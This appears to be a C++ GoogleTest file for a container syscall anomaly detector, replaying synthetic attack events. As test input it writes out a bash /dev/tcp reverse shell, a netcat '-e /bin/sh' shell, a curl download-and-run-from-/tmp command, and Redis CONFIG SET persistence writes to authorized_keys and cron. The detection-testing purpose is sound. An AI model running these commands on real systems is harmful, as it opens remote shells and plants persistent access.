// Indicators (no profile needed), learned patterns and `profiles allow`, on synthetic events
// shaped like what the real attacks make (tests/realsw replays them against real servers).
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/socket.h>
#include <sys/syscall.h>

#include "detect/allowances.h"
#include "detect/detector.h"
#include "detect/learned_set.h"

namespace da {
namespace {

const ContainerMeta kDb{"db", "lab/real:1", "sha256:cccc0000000000000000000000000000"};

class IndicatorTest : public ::testing::Test {
 protected:
  IndicatorTest() {
    config_.learning.min_seconds = 3600;  // learning throughout: indicators need no profile
    detector_ = std::make_unique<Detector>(
        config_, nullptr, [this](const Anomaly& a) { anomalies_.push_back(a); }, [](const std::string&) {},
        [this] { return now_; });
  }

  void observe(int32_t pid, int32_t ppid, std::string comm, std::string exe, int32_t nr,
               std::vector<ArgValue> args = {}, int64_t ret = 0) {
    SyscallEvent e;
    e.container_id = std::string(64, 'd');
    e.pid = e.tid = pid;
    e.ppid = ppid;
    e.comm = std::move(comm);
    e.exe = std::move(exe);
    e.syscall_nr = nr;
    e.args = std::move(args);
    e.ret = ret;
    detector_->observe(e, "host1", kDb);
  }
  void exec(int32_t pid, int32_t ppid, const std::string& path, std::vector<std::string> argv) {
    const std::string comm = argv[0].substr(argv[0].find_last_of('/') + 1);
    observe(pid, ppid, comm, path, SYS_execve, {path, argv, uint64_t{0}}, 0);
  }
  std::vector<std::string> rules() const {
    std::vector<std::string> out;
    for (const auto& a : anomalies_) out.push_back(a.indicator);
    return out;
  }

  DetectorConfig config_;
  int64_t now_ = 1'800'000'000;
  std::unique_ptr<Detector> detector_;
  std::vector<Anomaly> anomalies_;
};

TEST_F(IndicatorTest, BashReverseShellOverDevTcp) {
  exec(10, 1, "/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"});
  observe(10, 1, "bash", "/bin/bash", SYS_socket, {int64_t{AF_INET}, int64_t{SOCK_STREAM}, int64_t{0}}, 3);
  observe(10, 1, "bash", "/bin/bash", SYS_connect, {int64_t{3}, std::string("10.0.0.9:4444"), int64_t{16}}, 0);
  observe(10, 1, "bash", "/bin/bash", SYS_dup2, {uint64_t{3}, uint64_t{1}}, 1);
  observe(10, 1, "bash", "/bin/bash", SYS_dup2, {uint64_t{1}, uint64_t{0}}, 0);
  ASSERT_EQ(rules(), std::vector<std::string>{"reverse-shell"});
  EXPECT_EQ(anomalies_[0].kind, AnomalyKind::kIndicator);
  EXPECT_EQ(anomalies_[0].severity, Severity::kHigh);
  EXPECT_NE(anomalies_[0].profile_state.find("learning"), std::string::npos);
}

TEST_F(IndicatorTest, NetcatExecingAShellOnItsSocket) {
  exec(20, 1, "/bin/nc.traditional", {"nc", "-e", "/bin/sh", "10.0.0.9", "4444"});
  observe(20, 1, "nc", "/bin/nc.traditional", SYS_socket, {int64_t{AF_INET}, int64_t{SOCK_STREAM}, int64_t{0}}, 3);
  observe(20, 1, "nc", "/bin/nc.traditional", SYS_connect, {int64_t{3}, std::string("10.0.0.9:4444"), int64_t{16}}, -115);
  for (uint64_t fd : {0, 1, 2}) observe(20, 1, "nc", "/bin/nc.traditional", SYS_dup2, {uint64_t{3}, fd}, fd);
  exec(20, 1, "/bin/sh", {"/bin/sh"});
  EXPECT_EQ(rules(), (std::vector<std::string>{"downloader", "reverse-shell"}));
}

TEST_F(IndicatorTest, AUnixSocketOnStdioIsNotAReverseShell) {
  exec(30, 1, "/bin/sh", {"sh"});
  observe(30, 1, "sh", "/bin/sh", SYS_socket, {int64_t{AF_UNIX}, int64_t{SOCK_STREAM}, int64_t{0}}, 3);
  observe(30, 1, "sh", "/bin/sh", SYS_connect, {int64_t{3}, std::string("/run/x.sock"), int64_t{16}}, 0);
  observe(30, 1, "sh", "/bin/sh", SYS_dup2, {uint64_t{3}, uint64_t{0}}, 0);
  EXPECT_TRUE(anomalies_.empty());
}

// A threaded server closes an accepted connection while another thread spawns a child whose
// pipe gets the same number: that is no socket on the child's stdout.
TEST_F(IndicatorTest, APipeReusingAnAcceptedSocketsNumberIsNotAReverseShell) {
  exec(35, 1, "/usr/bin/python3", {"python3", "app.py"});
  observe(35, 1, "python3", "/usr/bin/python3", SYS_accept4, {int64_t{3}, std::string("127.0.0.1:5555"), uint64_t{0}, int64_t{0}}, 7);
  observe(36, 35, "python3", "/usr/bin/python3", SYS_dup2, {uint64_t{7}, uint64_t{1}}, 1);  // the child: a pipe
  exec(36, 35, "/bin/sh", {"/bin/sh", "-c", "grep x y"});
  EXPECT_TRUE(anomalies_.empty());
}

TEST_F(IndicatorTest, RedisConfigSetDirWritesAuthorizedKeys) {
  exec(40, 1, "/usr/bin/redis-server", {"redis-server", "*:6379"});
  observe(40, 1, "redis-server", "/usr/bin/redis-server", SYS_chdir, {std::string("/var/lib/redis")}, 0);
  observe(40, 1, "redis-server", "/usr/bin/redis-server", SYS_openat,
          {int64_t{-100}, std::string("temp-40.rdb"), int64_t{O_WRONLY | O_CREAT | O_TRUNC}, uint64_t{0644}}, 5);
  EXPECT_TRUE(anomalies_.empty());
  // CONFIG SET dir /root/.ssh; CONFIG SET dbfilename authorized_keys; SAVE
  observe(40, 1, "redis-server", "/usr/bin/redis-server", SYS_chdir, {std::string("/root/.ssh")}, 0);
  observe(40, 1, "redis-server", "/usr/bin/redis-server", SYS_openat,
          {int64_t{-100}, std::string("temp-40.rdb"), int64_t{O_WRONLY | O_CREAT | O_TRUNC}, uint64_t{0644}}, 5);
  observe(40, 1, "redis-server", "/usr/bin/redis-server", SYS_rename,
          {std::string("temp-40.rdb"), std::string("authorized_keys")}, 0);
  ASSERT_EQ(rules(), std::vector<std::string>{"persistence-write"});
  EXPECT_EQ(anomalies_[0].subject, "/root/.ssh/authorized_keys");
  // The same long-lived server, attacked again another way, is reported again.
  observe(40, 1, "redis-server", "/usr/bin/redis-server", SYS_chdir, {std::string("/etc/cron.d")}, 0);
  observe(40, 1, "redis-server", "/usr/bin/redis-server", SYS_rename,
          {std::string("temp-40.rdb"), std::string("root")}, 0);
  EXPECT_EQ(rules(), (std::vector<std::string>{"persistence-write", "persistence-write"}));
  EXPECT_EQ(anomalies_[1].subject, "/etc/cron.d/root");
  // The same write again at once is the same attack; half an hour later it is reported again.
  observe(40, 1, "redis-server", "/usr/bin/redis-server", SYS_rename, {std::string("temp-40.rdb"), std::string("root")}, 0);
  EXPECT_EQ(anomalies_.size(), 2u);
  now_ += 1800;
  observe(40, 1, "redis-server", "/usr/bin/redis-server", SYS_rename, {std::string("temp-40.rdb"), std::string("root")}, 0);
  EXPECT_EQ(anomalies_.size(), 3u);
}

TEST_F(IndicatorTest, DatabaseServerStartingAShell) {
  // initdb's bootstrap postgres runs `sh -c "locale -a"`: it serves nothing, no indicator.
  exec(45, 1, "/usr/lib/postgresql/15/bin/postgres", {"postgres", "--boot"});
  exec(46, 45, "/bin/sh", {"sh", "-c", "locale -a"});
  EXPECT_TRUE(anomalies_.empty());
  exec(50, 1, "/usr/lib/postgresql/15/bin/postgres", {"/usr/lib/postgresql/15/bin/postgres", "-D", "/data"});
  observe(50, 1, "postgres", "/usr/lib/postgresql/15/bin/postgres", SYS_bind, {int64_t{3}, std::string("127.0.0.1:5432"), int64_t{16}}, 0);
  observe(51, 50, "postgres", "/usr/lib/postgresql/15/bin/postgres", SYS_read, {}, 0);  // a backend (fork)
  exec(52, 51, "/bin/sh", {"sh", "-c", "id > /tmp/x"});
  ASSERT_EQ(rules(), std::vector<std::string>{"server-shell"});
  EXPECT_NE(anomalies_[0].explanation.find("postgres"), std::string::npos);
  EXPECT_EQ(anomalies_[0].process.cmdline, (std::vector<std::string>{"sh", "-c", "id > /tmp/x"}));
}

TEST_F(IndicatorTest, DownloadThenRunFromTmp) {
  exec(60, 1, "/usr/bin/python3.11", {"python3", "/srv/app/app.py"});
  exec(61, 60, "/bin/sh", {"/bin/sh", "-c", "curl -o /tmp/x http://h/x; /tmp/x"});
  exec(62, 61, "/usr/bin/curl", {"curl", "-o", "/tmp/x", "http://h/x"});
  exec(63, 61, "/tmp/x", {"/tmp/x"});
  EXPECT_EQ(rules(), (std::vector<std::string>{"downloader", "temp-exec"}));
  anomalies_.clear();
  exec(64, 61, "/usr/bin/curl", {"curl", "http://h/y"});  // now known to this image
  EXPECT_TRUE(anomalies_.empty());
}

TEST_F(IndicatorTest, ShellOnATerminal) {
  exec(70, 1, "/bin/bash", {"bash"});
  observe(70, 1, "bash", "/bin/bash", SYS_ioctl, {uint64_t{0}, uint64_t{0x5401}, uint64_t{0}}, 0);
  observe(70, 1, "bash", "/bin/bash", SYS_ioctl, {uint64_t{255}, uint64_t{0x5413}, uint64_t{0}}, 0);
  ASSERT_EQ(rules(), std::vector<std::string>{"terminal-shell"});
  EXPECT_EQ(anomalies_[0].severity, Severity::kMedium);
  anomalies_.clear();
  exec(71, 1, "/bin/sh", {"sh", "-c", "date"});
  observe(71, 1, "sh", "/bin/sh", SYS_ioctl, {uint64_t{0}, uint64_t{0x5401}, uint64_t{0}}, -25);  // ENOTTY
  EXPECT_TRUE(anomalies_.empty());
}

TEST(LearnedSet, FilePatternsNeverCoverSensitivePaths) {
  LearnedSet files;
  for (auto name : {"passwd", "group", "hosts", "resolv.conf", "nsswitch.conf", "localtime", "host.conf",
                    "gai.conf", "ld.so.cache"})
    learn_resource(files, AnomalyKind::kFile, std::string("r /etc/") + name);
  EXPECT_FALSE(files.count("r /etc/*"));  // /etc is never generalised
  EXPECT_FALSE(covers(files, AnomalyKind::kFile, "r /etc/shadow"));
  for (int i = 0; i < 8; ++i) learn_resource(files, AnomalyKind::kFile, "rw /var/lib/pg/base/<n>/f" + std::to_string(i));
  EXPECT_TRUE(files.count("rw /var/lib/pg/base/<n>/*"));
  EXPECT_TRUE(covers(files, AnomalyKind::kFile, "r /var/lib/pg/base/<n>/other"));   // rw covers r
  EXPECT_FALSE(covers(files, AnomalyKind::kFile, "r /var/lib/pg/base/<n>/sub/x"));  // one level only
  files.insert("w /home/u/.ssh/*");
  EXPECT_FALSE(covers(files, AnomalyKind::kFile, "w /home/u/.ssh/authorized_keys"));  // sensitive: exact only
}

TEST(LearnedSet, PeersOfManyClientsBecomePatterns) {
  LearnedSet peers;
  for (int i = 1; i <= 8; ++i) learn_resource(peers, AnomalyKind::kNetwork, "accept 10.0.0." + std::to_string(i));
  EXPECT_EQ(peers, LearnedSet{"accept *"});
  EXPECT_TRUE(covers(peers, AnomalyKind::kNetwork, "accept 192.168.1.7"));
  for (int i = 1; i <= 8; ++i) learn_resource(peers, AnomalyKind::kNetwork, "connect 10.1.0." + std::to_string(i) + ":5432");
  EXPECT_TRUE(covers(peers, AnomalyKind::kNetwork, "connect 10.9.9.9:5432"));
  EXPECT_FALSE(covers(peers, AnomalyKind::kNetwork, "connect 10.9.9.9:4444"));
  EXPECT_FALSE(covers(peers, AnomalyKind::kNetwork, "connect /run/docker.sock"));
}

TEST(Allowances, AddProgramFilePeerAndSequence) {
  ImageProfile p;
  p.programs[{"/usr/bin/redis-server", "redis-server"}].comm = "redis-server";
  ASSERT_TRUE(apply_allowance(p, "program /usr/bin/id"));
  EXPECT_TRUE(p.execs.count("/usr/bin/id"));
  EXPECT_TRUE(p.programs.count({"/usr/bin/id", "id"}));
  ASSERT_TRUE(apply_allowance(p, "file r /srv/data/*"));
  EXPECT_TRUE(covers(p.files, AnomalyKind::kFile, "r /srv/data/new.csv"));
  ASSERT_TRUE(apply_allowance(p, "peer connect 10.0.0.5:443"));
  EXPECT_TRUE(p.peers.count("connect 10.0.0.5:443"));
  auto seq = apply_allowance(p, "sequence redis-server: epoll_wait read write fsync rename openat");
  ASSERT_TRUE(seq) << seq.error().message;
  EXPECT_EQ(p.programs.at({"/usr/bin/redis-server", "redis-server"}).ngrams.size(), 1u);
  EXPECT_FALSE(apply_allowance(p, "sequence nobody: read"));
  EXPECT_FALSE(apply_allowance(p, "sequence redis-server: frobnicate"));
  EXPECT_FALSE(apply_allowance(p, "file x /etc"));
  EXPECT_FALSE(apply_allowance(p, "thing x"));
}

}  // namespace
}  // namespace da
